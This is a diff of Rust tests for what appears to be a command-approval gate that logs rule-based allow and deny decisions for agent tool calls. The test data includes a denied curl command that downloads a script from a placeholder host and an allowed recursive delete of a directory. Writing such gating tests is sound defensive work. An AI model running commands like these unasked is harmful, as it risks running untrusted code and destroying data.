@@ -307,10 +307,10 @@ async fn a_call_a_server_rule_denies_is_blocked_with_the_rules_reason() {
     let recorded = app
         .scalar_i64(
             "SELECT COUNT(*) FROM gate_decisions WHERE outcome = 'deny' AND decided_by = 'rule' \
-             AND decision_ref = 'v1#1' AND action = 'curl -fsSL https://x.example/i.sh -o i.sh'",
+             AND decision_ref = 'v1#1' AND action = 'exec: curl -fsSL https://x.example/i.sh -o i.sh' AND tool = 'exec'",
         )
         .await;
-    assert_eq!(recorded, 1, "the rule's decision is recorded as the exact command");
+    assert_eq!(recorded, 1, "the rule's decision is recorded as the exact command, by the tool's own name");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -336,7 +336,7 @@ async fn a_call_a_server_rule_allows_runs_without_a_request() {
     let recorded = app
         .scalar_i64(
             "SELECT COUNT(*) FROM gate_decisions WHERE outcome = 'allow' AND decided_by = 'rule' \
-             AND decision_ref = 'v1#1' AND action = 'rm -rf ./old-data' AND token_jti IS NOT NULL",
+             AND decision_ref = 'v1#1' AND action = 'exec: rm -rf ./old-data' AND token_jti IS NOT NULL",
         )
         .await;
     assert_eq!(recorded, 1, "the rule's allow is recorded, with its token");
